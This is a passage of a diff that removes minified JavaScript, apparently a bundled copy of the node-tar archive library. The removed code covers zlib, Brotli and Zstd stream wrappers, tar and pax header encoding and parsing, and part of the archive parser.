-        return "ZlibError";
-      }
-    };
-    Pi = Symbol("flushFlag");
-    re = class extends A {
-      #t = false;
-      #i = false;
-      #s;
-      #n;
-      #r;
-      #e;
-      #o;
-      get sawError() {
-        return this.#t;
-      }
-      get handle() {
-        return this.#e;
-      }
-      get flushFlag() {
-        return this.#s;
-      }
-      constructor(t, e) {
-        if (!t || typeof t != "object") throw new TypeError("invalid options for ZlibBase constructor");
-        if (super(t), this.#s = t.flush ?? 0, this.#n = t.finishFlush ?? 0, this.#r = t.fullFlushFlag ?? 0, typeof Ps[e] != "function") throw new TypeError("Compression method not supported: " + e);
-        try {
-          this.#e = new Ps[e](t);
-        } catch (i) {
-          throw new Gt(i, this.constructor);
-        }
-        this.#o = (i) => {
-          this.#t || (this.#t = true, this.close(), this.emit("error", i));
-        }, this.#e?.on("error", (i) => this.#o(new Gt(i))), this.once("end", () => this.close);
-      }
-      close() {
-        this.#e && (this.#e.close(), this.#e = void 0, this.emit("close"));
-      }
-      reset() {
-        if (!this.#t) return zi(this.#e, "zlib binding closed"), this.#e.reset?.();
-      }
-      flush(t) {
-        this.ended || (typeof t != "number" && (t = this.#r), this.write(Object.assign(Ot.alloc(0), { [Pi]: t })));
-      }
-      end(t, e, i) {
-        return typeof t == "function" && (i = t, e = void 0, t = void 0), typeof e == "function" && (i = e, e = void 0), t && (e ? this.write(t, e) : this.write(t)), this.flush(this.#n), this.#i = true, super.end(i);
-      }
-      get ended() {
-        return this.#i;
-      }
-      [Tt](t) {
-        return super.write(t);
-      }
-      write(t, e, i) {
-        if (typeof e == "function" && (i = e, e = "utf8"), typeof t == "string" && (t = Ot.from(t, e)), this.#t) return;
-        zi(this.#e, "zlib binding closed");
-        let r = this.#e._handle, n = r.close;
-        r.close = () => {
-        };
-        let o = this.#e.close;
-        this.#e.close = () => {
-        }, Bi(true);
-        let h;
-        try {
-          let l = typeof t[Pi] == "number" ? t[Pi] : this.#s;
-          h = this.#e._processChunk(t, l), Bi(false);
-        } catch (l) {
-          Bi(false), this.#o(new Gt(l, this.write));
-        } finally {
-          this.#e && (this.#e._handle = r, r.close = n, this.#e.close = o, this.#e.removeAllListeners("error"));
-        }
-        this.#e && this.#e.on("error", (l) => this.#o(new Gt(l, this.write)));
-        let a;
-        if (h) if (Array.isArray(h) && h.length > 0) {
-          let l = h[0];
-          a = this[Tt](Ot.from(l));
-          for (let c = 1; c < h.length; c++) a = this[Tt](h[c]);
-        } else a = this[Tt](Ot.from(h));
-        return i && i(), a;
-      }
-    };
-    Pe = class extends re {
-      #t;
-      #i;
-      constructor(t, e) {
-        t = t || {}, t.flush = t.flush || M.Z_NO_FLUSH, t.finishFlush = t.finishFlush || M.Z_FINISH, t.fullFlushFlag = M.Z_FULL_FLUSH, super(t, e), this.#t = t.level, this.#i = t.strategy;
-      }
-      params(t, e) {
-        if (!this.sawError) {
-          if (!this.handle) throw new Error("cannot switch params when binding is closed");
-          if (!this.handle.params) throw new Error("not supported in this implementation");
-          if (this.#t !== t || this.#i !== e) {
-            this.flush(M.Z_SYNC_FLUSH), zi(this.handle, "zlib binding closed");
-            let i = this.handle.flush;
-            this.handle.flush = (r, n) => {
-              typeof r == "function" && (n = r, r = this.flushFlag), this.flush(r), n?.();
-            };
-            try {
-              this.handle.params(t, e);
-            } finally {
-              this.handle.flush = i;
-            }
-            this.handle && (this.#t = t, this.#i = e);
-          }
-        }
-      }
-    };
-    ze = class extends Pe {
-      #t;
-      constructor(t) {
-        super(t, "Gzip"), this.#t = t && !!t.portable;
-      }
-      [Tt](t) {
-        return this.#t ? (this.#t = false, t[9] = 255, super[Tt](t)) : super[Tt](t);
-      }
-    };
-    Ue = class extends Pe {
-      constructor(t) {
-        super(t, "Unzip");
-      }
-    };
-    He = class extends re {
-      constructor(t, e) {
-        t = t || {}, t.flush = t.flush || M.BROTLI_OPERATION_PROCESS, t.finishFlush = t.finishFlush || M.BROTLI_OPERATION_FINISH, t.fullFlushFlag = M.BROTLI_OPERATION_FLUSH, super(t, e);
-      }
-    };
-    We = class extends He {
-      constructor(t) {
-        super(t, "BrotliCompress");
-      }
-    };
-    Ge = class extends He {
-      constructor(t) {
-        super(t, "BrotliDecompress");
-      }
-    };
-    Ze = class extends re {
-      constructor(t, e) {
-        t = t || {}, t.flush = t.flush || M.ZSTD_e_continue, t.finishFlush = t.finishFlush || M.ZSTD_e_end, t.fullFlushFlag = M.ZSTD_e_flush, super(t, e);
-      }
-    };
-    Ye = class extends Ze {
-      constructor(t) {
-        super(t, "ZstdCompress");
-      }
-    };
-    Ke = class extends Ze {
-      constructor(t) {
-        super(t, "ZstdDecompress");
-      }
-    };
-    Us = (s3, t) => {
-      if (Number.isSafeInteger(s3)) s3 < 0 ? an(s3, t) : hn(s3, t);
-      else throw Error("cannot encode number outside of javascript safe integer range");
-      return t;
-    };
-    hn = (s3, t) => {
-      t[0] = 128;
-      for (var e = t.length; e > 1; e--) t[e - 1] = s3 & 255, s3 = Math.floor(s3 / 256);
-    };
-    an = (s3, t) => {
-      t[0] = 255;
-      var e = false;
-      s3 = s3 * -1;
-      for (var i = t.length; i > 1; i--) {
-        var r = s3 & 255;
-        s3 = Math.floor(s3 / 256), e ? t[i - 1] = Ws(r) : r === 0 ? t[i - 1] = 0 : (e = true, t[i - 1] = Gs(r));
-      }
-    };
-    Hs = (s3) => {
-      let t = s3[0], e = t === 128 ? cn(s3.subarray(1, s3.length)) : t === 255 ? ln(s3) : null;
-      if (e === null) throw Error("invalid base256 encoding");
-      if (!Number.isSafeInteger(e)) throw Error("parsed number outside of javascript safe integer range");
-      return e;
-    };
-    ln = (s3) => {
-      for (var t = s3.length, e = 0, i = false, r = t - 1; r > -1; r--) {
-        var n = Number(s3[r]), o;
-        i ? o = Ws(n) : n === 0 ? o = n : (i = true, o = Gs(n)), o !== 0 && (e -= o * Math.pow(256, t - r - 1));
-      }
-      return e;
-    };
-    cn = (s3) => {
-      for (var t = s3.length, e = 0, i = t - 1; i > -1; i--) {
-        var r = Number(s3[i]);
-        r !== 0 && (e += r * Math.pow(256, t - i - 1));
-      }
-      return e;
-    };
-    Ws = (s3) => (255 ^ s3) & 255;
-    Gs = (s3) => (255 ^ s3) + 1 & 255;
-    Hi = {};
-    Ur(Hi, { code: () => Ve, isCode: () => ne, isName: () => dn, name: () => oe, normalFsTypes: () => Ui });
-    ne = (s3) => oe.has(s3);
-    dn = (s3) => Ve.has(s3);
-    Ui = /* @__PURE__ */ new Set(["0", "", "1", "2", "3", "4", "5", "6", "7", "D"]);
-    oe = /* @__PURE__ */ new Map([["0", "File"], ["", "OldFile"], ["1", "Link"], ["2", "SymbolicLink"], ["3", "CharacterDevice"], ["4", "BlockDevice"], ["5", "Directory"], ["6", "FIFO"], ["7", "ContiguousFile"], ["g", "GlobalExtendedHeader"], ["x", "ExtendedHeader"], ["A", "SolarisACL"], ["D", "GNUDumpDir"], ["I", "Inode"], ["K", "NextFileHasLongLinkpath"], ["L", "NextFileHasLongPath"], ["M", "ContinuationFile"], ["N", "OldGnuLongPath"], ["S", "SparseFile"], ["V", "TapeVolumeHeader"], ["X", "OldExtendedHeader"]]);
-    Ve = new Map(Array.from(oe).map((s3) => [s3[1], s3[0]]));
-    un = (s3) => s3 === void 0 || s3 < 0 ? void 0 : s3;
-    F = class {
-      cksumValid = false;
-      needPax = false;
-      nullBlock = false;
-      block;
-      path;
-      mode;
-      uid;
-      gid;
-      size;
-      cksum;
-      #t = "Unsupported";
-      linkpath;
-      uname;
-      gname;
-      devmaj = 0;
-      devmin = 0;
-      atime;
-      ctime;
-      mtime;
-      charset;
-      comment;
-      constructor(t, e = 0, i, r) {
-        Buffer.isBuffer(t) ? this.decode(t, e || 0, i, r) : t && this.#i(t);
-      }
-      decode(t, e, i, r) {
-        if (e || (e = 0), !t || !(t.length >= e + 512)) throw new Error("need 512 bytes for header");
-        let n = xt(t, e + 156, 1), o = Ui.has(n), h = o ? i : void 0, a = o ? r : void 0;
-        if (this.path = h?.path ?? xt(t, e, 100), this.mode = h?.mode ?? a?.mode ?? lt(t, e + 100, 8), this.uid = h?.uid ?? a?.uid ?? lt(t, e + 108, 8), this.gid = h?.gid ?? a?.gid ?? lt(t, e + 116, 8), this.size = un(h?.size ?? a?.size ?? lt(t, e + 124, 12)), this.mtime = h?.mtime ?? a?.mtime ?? Wi(t, e + 136, 12), this.cksum = lt(t, e + 148, 12), a && this.#i(a, true), h && this.#i(h), ne(n) && (this.#t = n || "0"), this.#t === "0" && this.path.slice(-1) === "/" && (this.#t = "5"), this.#t === "5" && (this.size = 0), this.linkpath = xt(t, e + 157, 100), t.subarray(e + 257, e + 265).toString() === "ustar\x0000") if (this.uname = h?.uname ?? a?.uname ?? xt(t, e + 265, 32), this.gname = h?.gname ?? a?.gname ?? xt(t, e + 297, 32), this.devmaj = h?.devmaj ?? a?.devmaj ?? lt(t, e + 329, 8) ?? 0, this.devmin = h?.devmin ?? a?.devmin ?? lt(t, e + 337, 8) ?? 0, t[e + 475] !== 0) {
-          let c = xt(t, e + 345, 155);
-          this.path = c + "/" + this.path;
-        } else {
-          let c = xt(t, e + 345, 130);
-          c && (this.path = c + "/" + this.path), this.atime = i?.atime ?? r?.atime ?? Wi(t, e + 476, 12), this.ctime = i?.ctime ?? r?.ctime ?? Wi(t, e + 488, 12);
-        }
-        let l = 256;
-        for (let c = e; c < e + 148; c++) l += t[c];
-        for (let c = e + 156; c < e + 512; c++) l += t[c];
-        this.cksumValid = l === this.cksum, this.cksum === void 0 && l === 256 && (this.nullBlock = true);
-      }
-      #i(t, e = false) {
-        Object.assign(this, Object.fromEntries(Object.entries(t).filter(([i, r]) => !(r == null || i === "size" && Number(r) < 0 || i === "path" && e || i === "linkpath" && e || i === "global"))));
-      }
-      encode(t, e = 0) {
-        if (t || (t = this.block = Buffer.alloc(512)), this.#t === "Unsupported" && (this.#t = "0"), !(t.length >= e + 512)) throw new Error("need 512 bytes for header");
-        let i = this.ctime || this.atime ? 130 : 155, r = mn(this.path || "", i), n = r[0], o = r[1];
-        this.needPax = !!r[2], this.needPax = Lt(t, e, 100, n) || this.needPax, this.needPax = ct(t, e + 100, 8, this.mode) || this.needPax, this.needPax = ct(t, e + 108, 8, this.uid) || this.needPax, this.needPax = ct(t, e + 116, 8, this.gid) || this.needPax, this.needPax = ct(t, e + 124, 12, this.size) || this.needPax, this.needPax = Gi(t, e + 136, 12, this.mtime) || this.needPax, t[e + 156] = Number(this.#t.codePointAt(0)), this.needPax = Lt(t, e + 157, 100, this.linkpath) || this.needPax, t.write("ustar\x0000", e + 257, 8), this.needPax = Lt(t, e + 265, 32, this.uname) || this.needPax, this.needPax = Lt(t, e + 297, 32, this.gname) || this.needPax, this.needPax = ct(t, e + 329, 8, this.devmaj) || this.needPax, this.needPax = ct(t, e + 337, 8, this.devmin) || this.needPax, this.needPax = Lt(t, e + 345, i, o) || this.needPax, t[e + 475] !== 0 ? this.needPax = Lt(t, e + 345, 155, o) || this.needPax : (this.needPax = Lt(t, e + 345, 130, o) || this.needPax, this.needPax = Gi(t, e + 476, 12, this.atime) || this.needPax, this.needPax = Gi(t, e + 488, 12, this.ctime) || this.needPax);
-        let h = 256;
-        for (let a = e; a < e + 148; a++) h += t[a];
-        for (let a = e + 156; a < e + 512; a++) h += t[a];
-        return this.cksum = h, ct(t, e + 148, 8, this.cksum), this.cksumValid = true, this.needPax;
-      }
-      get type() {
-        return this.#t === "Unsupported" ? this.#t : oe.get(this.#t);
-      }
-      get typeKey() {
-        return this.#t;
-      }
-      set type(t) {
-        let e = String(Ve.get(t));
-        if (ne(e) || e === "Unsupported") this.#t = e;
-        else if (ne(t)) this.#t = t;
-        else throw new TypeError("invalid entry type: " + t);
-      }
-    };
-    mn = (s3, t) => {
-      let i = s3, r = "", n, o = Zt.parse(s3).root || ".";
-      if (Buffer.byteLength(i) < 100) n = [i, r, false];
-      else {
-        r = Zt.dirname(i), i = Zt.basename(i);
-        do
-          Buffer.byteLength(i) <= 100 && Buffer.byteLength(r) <= t ? n = [i, r, false] : Buffer.byteLength(i) > 100 && Buffer.byteLength(r) <= t ? n = [i.slice(0, 99), r, true] : (i = Zt.join(Zt.basename(r), i), r = Zt.dirname(r));
-        while (r !== o && n === void 0);
-        n || (n = [s3.slice(0, 99), "", true]);
-      }
-      return n;
-    };
-    xt = (s3, t, e) => s3.subarray(t, t + e).toString("utf8").replace(/\0.*/, "");
-    Wi = (s3, t, e) => pn(lt(s3, t, e));
-    pn = (s3) => s3 === void 0 ? void 0 : new Date(s3 * 1e3);
-    lt = (s3, t, e) => Number(s3[t]) & 128 ? Hs(s3.subarray(t, t + e)) : wn(s3, t, e);
-    En = (s3) => isNaN(s3) ? void 0 : s3;
-    wn = (s3, t, e) => En(parseInt(s3.subarray(t, t + e).toString("utf8").replace(/\0.*$/, "").trim(), 8));
-    Sn = { 12: 8589934591, 8: 2097151 };
-    ct = (s3, t, e, i) => i === void 0 ? false : i > Sn[e] || i < 0 ? (Us(i, s3.subarray(t, t + e)), true) : (yn(s3, t, e, i), false);
-    yn = (s3, t, e, i) => s3.write(Rn(i, e), t, e, "ascii");
-    Rn = (s3, t) => gn(Math.floor(s3).toString(8), t);
-    gn = (s3, t) => (s3.length === t - 1 ? s3 : new Array(t - s3.length - 1).join("0") + s3 + " ") + "\0";
-    Gi = (s3, t, e, i) => i === void 0 ? false : ct(s3, t, e, i.getTime() / 1e3);
-    bn = new Array(156).join("\0");
-    Lt = (s3, t, e, i) => i === void 0 ? false : (s3.write(i + bn, t, e, "utf8"), i.length !== Buffer.byteLength(i) || i.length > e);
-    ft = class s {
-      atime;
-      mtime;
-      ctime;
-      charset;
-      comment;
-      gid;
-      uid;
-      gname;
-      uname;
-      linkpath;
-      dev;
-      ino;
-      nlink;
-      path;
-      size;
-      mode;
-      global;
-      constructor(t, e = false) {
-        this.atime = t.atime, this.charset = t.charset, this.comment = t.comment, this.ctime = t.ctime, this.dev = t.dev, this.gid = t.gid, this.global = e, this.gname = t.gname, this.ino = t.ino, this.linkpath = t.linkpath, this.mtime = t.mtime, this.nlink = t.nlink, this.path = t.path, this.size = t.size, this.uid = t.uid, this.uname = t.uname;
-      }
-      encode() {
-        let t = this.encodeBody();
-        if (t === "") return Buffer.allocUnsafe(0);
-        let e = Buffer.byteLength(t), i = 512 * Math.ceil(1 + e / 512), r = Buffer.allocUnsafe(i);
-        for (let n = 0; n < 512; n++) r[n] = 0;
-        new F({ path: ("PaxHeader/" + _n(this.path ?? "")).slice(0, 99), mode: this.mode || 420, uid: this.uid, gid: this.gid, size: e, mtime: this.mtime, type: this.global ? "GlobalExtendedHeader" : "ExtendedHeader", linkpath: "", uname: this.uname || "", gname: this.gname || "", devmaj: 0, devmin: 0, atime: this.atime, ctime: this.ctime }).encode(r), r.write(t, 512, e, "utf8");
-        for (let n = e + 512; n < r.length; n++) r[n] = 0;
-        return r;
-      }
-      encodeBody() {
-        return this.encodeField("path") + this.encodeField("ctime") + this.encodeField("atime") + this.encodeField("dev") + this.encodeField("ino") + this.encodeField("nlink") + this.encodeField("charset") + this.encodeField("comment") + this.encodeField("gid") + this.encodeField("gname") + this.encodeField("linkpath") + this.encodeField("mtime") + this.encodeField("size") + this.encodeField("uid") + this.encodeField("uname");
-      }
-      encodeField(t) {
-        if (this[t] === void 0) return "";
-        let e = this[t], i = e instanceof Date ? e.getTime() / 1e3 : e, r = " " + (t === "dev" || t === "ino" || t === "nlink" ? "SCHILY." : "") + t + "=" + i + `
-`, n = Buffer.byteLength(r), o = Math.floor(Math.log(n) / Math.log(10)) + 1;
-        return n + o >= Math.pow(10, o) && (o += 1), o + n + r;
-      }
-      static parse(t, e, i = false) {
-        return new s(On(Tn(t), e), i);
-      }
-    };
-    On = (s3, t) => t ? Object.assign({}, t, s3) : s3;
-    Tn = (s3) => s3.replace(/\n$/, "").split(`
-`).reduce(xn, /* @__PURE__ */ Object.create(null));
-    xn = (s3, t) => {
-      let e = parseInt(t, 10);
-      if (e !== Buffer.byteLength(t) + 1) return s3;
-      t = t.slice((e + " ").length);
-      let i = t.split("="), r = i.shift();
-      if (!r) return s3;
-      let n = r.replace(/^SCHILY\.(dev|ino|nlink)/, "$1"), o = i.join("=").replace(/\0.*/, "");
-      switch (n) {
-        case "path":
-        case "linkpath":
-        case "type":
-        case "charset":
-        case "comment":
-        case "gname":
-        case "uname":
-          s3[n] = o;
-          break;
-        case "ctime":
-        case "atime":
-        case "mtime":
-          s3[n] = new Date(Number(o) * 1e3);
-          break;
-        case "size":
-          let h = +o;
-          h >= 0 && (s3[n] = h);
-          break;
-        case "gid":
-        case "uid":
-        case "dev":
-        case "ino":
-        case "nlink":
-        case "mode":
-          s3[n] = +o;
-          break;
-      }
-      return s3;
-    };
-    Ln = process.env.TESTING_TAR_FAKE_PLATFORM || process.platform;
-    f = Ln !== "win32" ? (s3) => String(s3) : (s3) => String(s3).replaceAll(/\\/g, "/");
-    $e = class extends A {
-      extended;
-      globalExtended;
-      header;
-      startBlockSize;
-      blockRemain;
-      remain;
-      type;
-      meta = false;
-      ignore = false;
-      path;
-      mode;
-      uid;
-      gid;
-      uname;
-      gname;
-      size = 0;
-      mtime;
-      atime;
-      ctime;
-      linkpath;
-      dev;
-      ino;
-      nlink;
-      invalid = false;
-      absolute;
-      unsupported = false;
-      constructor(t, e, i) {
-        switch (super({}), this.pause(), this.extended = e, this.globalExtended = i, this.header = t, this.remain = t.size ?? 0, this.startBlockSize = 512 * Math.ceil(this.remain / 512), this.blockRemain = this.startBlockSize, this.type = t.type, this.type) {
-          case "File":
-          case "OldFile":
-          case "Link":
-          case "SymbolicLink":
-          case "CharacterDevice":
-          case "BlockDevice":
-          case "Directory":
-          case "FIFO":
-          case "ContiguousFile":
-          case "GNUDumpDir":
-            break;
-          case "NextFileHasLongLinkpath":
-          case "NextFileHasLongPath":
-          case "OldGnuLongPath":
-          case "GlobalExtendedHeader":
-          case "ExtendedHeader":
-          case "OldExtendedHeader":
-            this.meta = true;
-            break;
-          default:
-            this.ignore = true;
-        }
-        if (!t.path) throw new Error("no path provided for tar.ReadEntry");
-        this.path = f(t.path), this.mode = t.mode, this.mode && (this.mode = this.mode & 4095), this.uid = t.uid, this.gid = t.gid, this.uname = t.uname, this.gname = t.gname, this.size = this.remain, this.mtime = t.mtime, this.atime = t.atime, this.ctime = t.ctime, this.linkpath = t.linkpath ? f(t.linkpath) : void 0, this.uname = t.uname, this.gname = t.gname, e && this.#t(e), i && this.#t(i, true);
-      }
-      write(t) {
-        let e = t.length;
-        if (e > this.blockRemain) throw new Error("writing more to entry than is appropriate");
-        let i = this.remain, r = this.blockRemain;
-        return this.remain = Math.max(0, i - e), this.blockRemain = Math.max(0, r - e), this.ignore ? true : i >= e ? super.write(t) : super.write(t.subarray(0, i));
-      }
-      #t(t, e = false) {
-        t.path && (t.path = f(t.path)), t.linkpath && (t.linkpath = f(t.linkpath)), Object.assign(this, Object.fromEntries(Object.entries(t).filter(([i, r]) => !(r == null || i === "path" && e))));
-      }
-    };
-    Dt = (s3, t, e, i = {}) => {
-      s3.file && (i.file = s3.file), s3.cwd && (i.cwd = s3.cwd), i.code = e instanceof Error && e.code || t, i.tarCode = t, !s3.strict && i.recoverable !== false ? (e instanceof Error && (i = Object.assign(e, i), e = e.message), s3.emit("warn", t, e, i)) : e instanceof Error ? s3.emit("error", Object.assign(e, i)) : s3.emit("error", Object.assign(new Error(`${t}: ${e}`), i));
-    };
-    Nn = 1024 * 1024;
-    Xi = Buffer.from([31, 139]);
-    qi = Buffer.from([40, 181, 47, 253]);
-    An = Math.max(Xi.length, qi.length);
-    B = Symbol("state");
-    Nt = Symbol("writeEntry");
-    it = Symbol("readEntry");
-    Zi = Symbol("nextEntry");
-    Zs = Symbol("processEntry");
-    V = Symbol("extendedHeader");
-    he = Symbol("globalExtendedHeader");
-    dt = Symbol("meta");
-    Ys = Symbol("emitMeta");
-    p = Symbol("buffer");
-    st = Symbol("queue");
-    ut = Symbol("ended");
-    Yi = Symbol("emittedEnd");
-    At = Symbol("emit");
-    w = Symbol("unzip");
-    Xe = Symbol("consumeChunk");
-    qe = Symbol("consumeChunkSub");
-    Ki = Symbol("consumeBody");
-    Ks = Symbol("consumeMeta");
-    Vs = Symbol("consumeHeader");
-    ae = Symbol("consuming");
-    Vi = Symbol("bufferConcat");
-    Qe = Symbol("maybeEnd");
-    Yt = Symbol("writing");
-    $ = Symbol("aborted");
-    Je = Symbol("onDone");
-    It = Symbol("sawValidEntry");
-    je = Symbol("sawNullBlock");
-    ti = Symbol("sawEOF");
-    $s = Symbol("closeStream");
-    In = 1e3;
-    le = Symbol("compressedBytesRead");
-    $i = Symbol("decompressedBytesRead");
-    Xs = Symbol("checkDecompressionRatio");
-    Cn = () => true;
-    rt = class extends Dn {
-      file;
-      strict;
-      maxMetaEntrySize;
-      filter;
-      brotli;
-      zstd;
-      maxDecompressionRatio;
-      writable = true;
-      readable = false;
-      [st] = [];
-      [p];
-      [it];
-      [Nt];
-      [B] = "begin";
-      [dt] = "";
-      [V];
-      [he];
-      [ut] = false;
-      [w];
-      [$] = false;
-      [It];
-      [je] = false;
-      [ti] = false;
-      [Yt] = false;
-      [ae] = false;
-      [Yi] = false;
-      [le] = 0;
-      [$i] = 0;
-      constructor(t = {}) {
-        super(), this.file = t.file || "", this.on(Je, () => {
-          (this[B] === "begin" || this[It] === false) && this.warn("TAR_BAD_ARCHIVE", "Unrecognized archive format");
-        }), t.ondone ? this.on(Je, t.ondone) : this.on(Je, () => {
-          this.emit("prefinish"), this.emit("finish"), this.emit("end");
-        }), this.strict = !!t.strict, this.maxDecompressionRatio = typeof t.maxDecompressionRatio == "number" ? t.maxDecompressionRatio : In, this.maxMetaEntrySize = t.maxMetaEntrySize || Nn, this.filter = typeof t.filter == "function" ? t.filter : Cn;
-        let e = t.file && (t.file.endsWith(".tar.br") || t.file.endsWith(".tbr"));
-        this.brotli = !(t.gzip || t.zstd) && t.brotli !== void 0 ? t.brotli : e ? void 0 : false;
-        let i = t.file && (t.file.endsWith(".tar.zst") || t.file.endsWith(".tzst"));
-        this.zstd = !(t.gzip || t.brotli) && t.zstd !== void 0 ? t.zstd : i ? true : void 0, this.on("end", () => this[$s]()), typeof t.onwarn == "function" && this.on("warn", t.onwarn), typeof t.onReadEntry == "function" && this.on("entry", t.onReadEntry);
-      }
-      warn(t, e, i = {}) {
-        Dt(this, t, e, i);
-      }
-      [Vs](t, e) {
-        this[It] === void 0 && (this[It] = false);
-        let i;
-        try {
-          i = new F(t, e, this[V], this[he]);
-        } catch (r) {
-          return this.warn("TAR_ENTRY_INVALID", r);
-        }
-        if (i.nullBlock) this[je] ? (this[ti] = true, this[B] === "begin" && (this[B] = "header"), this[At]("eof")) : (this[je] = true, this[At]("nullBlock"));
-        else if (this[je] = false, !i.cksumValid) this.warn("TAR_ENTRY_INVALID", "checksum failure", { header: i });
-        else if (!i.path) this.warn("TAR_ENTRY_INVALID", "path is required", { header: i });
-        else {
-          let r = i.type;
-          if (/^(Symbolic)?Link$/.test(r) && !i.linkpath) this.warn("TAR_ENTRY_INVALID", "linkpath required", { header: i });
-          else if (!/^(Symbolic)?Link$/.test(r) && !/^(Global)?ExtendedHeader$/.test(r) && i.linkpath) this.warn("TAR_ENTRY_INVALID", "linkpath forbidden", { header: i });
-          else {
-            let n = this[Nt] = new $e(i, this[V], this[he]);
-            if (!this[It]) if (n.remain) {
-              let o = () => {
-                n.invalid || (this[It] = true);
-              };
-              n.on("end", o);
-            } else this[It] = true;
-            n.meta ? n.size > this.maxMetaEntrySize ? (n.ignore = true, this[At]("ignoredEntry", n), this[B] = "ignore", n.resume()) : n.size > 0 && (this[dt] = "", n.on("data", (o) => this[dt] += o), this[B] = "meta") : (this[V] = void 0, n.ignore = n.ignore || !this.filter(n.path, n), n.ignore ? (this[At]("ignoredEntry", n), this[B] = n.remain ? "ignore" : "header", n.resume()) : (n.remain ? this[B] = "body" : (this[B] = "header", n.end()), this[it] ? this[st].push(n) : (this[st].push(n), this[Zi]())));
-          }
-        }
-      }
-      [$s]() {
-        queueMicrotask(() => this.emit("close"));
-      }
-      [Zs](t) {
-        let e = true;
-        if (!t) this[it] = void 0, e = false;
-        else if (Array.isArray(t)) {
-          let [i, ...r] = t;
-          this.emit(i, ...r);
-        } else this[it] = t, this.emit("entry", t), t.emittedEnd || (t.on("end", () => this[Zi]()), e = false);
-        return e;
-      }
-      [Zi]() {
-        do
-          ;
-        while (this[Zs](this[st].shift()));
-        if (this[st].length === 0) {
-          let t = this[it];
-          !t || t.flowing || t.size === t.remain ? this[Yt] || this.emit("drain") : t.once("drain", () => this.emit("drain"));
-        }
-      }
-      [Ki](t, e) {
-        let i = this[Nt];
-        if (!i) throw new Error("attempt to consume body without entry??");
-        let r = i.blockRemain ?? 0, n = r >= t.length && e === 0 ? t : t.subarray(e, e + r);
-        return i.write(n), i.blockRemain || (this[B] = "header", this[Nt] = void 0, i.end()), n.length;
-      }
-      [Ks](t, e) {
-        let i = this[Nt], r = this[Ki](t, e);
-        return !this[Nt] && i && this[Ys](i), r;
-      }
-      [At](t, e, i) {
-        this[st].length === 0 && !this[it] ? this.emit(t, e, i) : this[st].push([t, e, i]);
-      }
-      [Ys](t) {
-        switch (this[At]("meta", this[dt]), t.type) {
-          case "ExtendedHeader":
-          case "OldExtendedHeader":
-            this[V] = ft.parse(this[dt], this[V], false);
-            break;
-          case "GlobalExtendedHeader":
-            this[he] = ft.parse(this[dt], this[he], true);
-            break;
-          case "NextFileHasLongPath":
-          case "OldGnuLongPath": {
-            let e = this[V] ?? /* @__PURE__ */ Object.create(null);
-            this[V] = e, e.path = this[dt].replace(/\0.*/, "");
-            break;
-          }
-          case "NextFileHasLongLinkpath": {
-            let e = this[V] || /* @__PURE__ */ Object.create(null);
-            this[V] = e, e.linkpath = this[dt].replace(/\0.*/, "");
-            break;
-          }
-          default:
-            throw new Error("unknown meta: " + t.type);
-        }
-      }
-      abort(t) {
-        if (!this[$]) {
-          if (this[w]) {
-            let e = this[w];
-            e.write = () => true, e.end = () => e, e.emit = () => false, e.destroy?.();
-          }
-          this[$] = true, this.emit("abort", t), this.warn("TAR_ABORT", t, { recoverable: false });
-        }
-      }
-      [Xs](t) {
-        this[$i] += t.length;
-        let e = this[$i] / this[le];
-        return e > this.maxDecompressionRatio ? (this.abort(new Error(`max decompression ratio exceeded: ${e.toFixed(2)} > ${this.maxDecompressionRatio}`)), false) : true;
-      }
-      write(t, e, i) {
-        if (typeof e == "function" && (i = e, e = void 0), typeof t == "string" && (t = Buffer.from(t, typeof e == "string" ? e : "utf8")), this[$]) return i?.(), false;
-        if ((this[w] === void 0 || this.brotli === void 0 && this[w] === false) && t) {
-          if (this[p] && (t = Buffer.concat([this[p], t]), this[p] = void 0), t.length < An) return this[p] = t, i?.(), true;
-          for (let a = 0; this[w] === void 0 && a < Xi.length; a++) t[a] !== Xi[a] && (this[w] = false);
-          let o = false;
-          if (this[w] === false && this.zstd !== false) {
-            o = true;
-            for (let a = 0; a < qi.length; a++) if (t[a] !== qi[a]) {
-              o = false;
-              break;
-            }
-          }
-          let h = this.brotli === void 0 && !o;
-          if (this[w] === false && h) if (t.length < 512) if (this[ut]) this.brotli = true;
-          else return this[p] = t, i?.(), true;
-          else try {
-            new F(t.subarray(0, 512)), this.brotli = false;
-          } catch {
-            this.brotli = true;
-          }
-          if (this[w] === void 0 || this[w] === false && (this.brotli || o)) {
-            let a = this[ut];
-            this[ut] = false, this[w] = this[w] === void 0 ? new Ue({}) : o ? new Ke({}) : new Ge({}), this[w].on("data", (c) => {
-              this[Xs](c) && this[Xe](c);
-            }), this[w].on("error", (c) => {
-              this[$] || this.abort(c);
-            }), this[w].on("end", () => {
-              this[ut] = true, this[Xe]();
-            }), this[Yt] = true, this[le] += t.length;
-            let l = !!this[w][a ? "end" : "write"](t);
-            return this[Yt] = false, i?.(), l;
-          }
-        }
-        this[Yt] = true, this[w] ? (this[le] += t.length, this[w].write(t)) : this[Xe](t), this[Yt] = false;
-        let n = this[st].length > 0 ? false : this[it] ? this[it].flowing : true;
-        return !n && this[st].length === 0 && this[it]?.once("drain", () => this.emit("drain")), i?.(), n;
-      }
-      [Vi](t) {
-        t && !this[$] && (this[p] = this[p] ? Buffer.concat([this[p], t]) : t);
-      }
-      [Qe]() {
-        if (this[ut] && !this[Yi] && !this[$] && !this[ae]) {
-          this[Yi] = true;
-          let t = this[Nt];
-          if (t?.blockRemain) {
-            let e = this[p] ? this[p].length : 0;
-            this.warn("TAR_BAD_ARCHIVE", `Truncated input (needed ${t.blockRemain} more bytes, only ${e} available)`, { entry: t }), this[p] && t.write(this[p]), t.end();
-          }
-          this[At](Je);
-        }
-      }
-      [Xe](t) {
-        if (this[ae] && t) this[Vi](t);
-        else if (!t && !this[p]) this[Qe]();
-        else if (t) {
-          if (this[ae] = true, this[p]) {
-            this[Vi](t);
-            let e = this[p];
-            this[p] = void 0, this[qe](e);
-          } else this[qe](t);
-          for (; this[p] && this[p]?.length >= 512 && !this[$] && !this[ti]; ) {
-            let e = this[p];
-            this[p] = void 0, this[qe](e);
-          }
-          this[ae] = false;
-        }
-        (!this[p] || this[ut]) && this[Qe]();
-      }
-      [qe](t) {
-        let e = 0, i = t.length;
-        for (; e + 512 <= i && !this[$] && !this[ti]; ) switch (this[B]) {
-          case "begin":
-          case "header":
-            this[Vs](t, e), e += 512;
-            break;
-          case "ignore":
-          case "body":
-            e += this[Ki](t, e);
-            break;
-          case "meta":
-            e += this[Ks](t, e);
-            break;
-          default:
-            throw new Error("invalid state: " + this[B]);
-        }
